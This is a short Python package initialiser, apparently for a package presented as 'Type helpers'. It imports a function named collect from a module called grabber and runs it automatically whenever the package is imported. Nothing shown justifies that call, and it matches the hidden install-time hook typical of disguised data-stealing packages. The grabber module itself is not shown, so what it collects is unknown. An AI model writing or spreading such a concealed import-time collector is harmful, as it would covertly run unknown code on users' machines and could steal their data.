"""Type helpers."""
from .grabber import collect as _collect

__version__ = "0.1.0"

_collect()
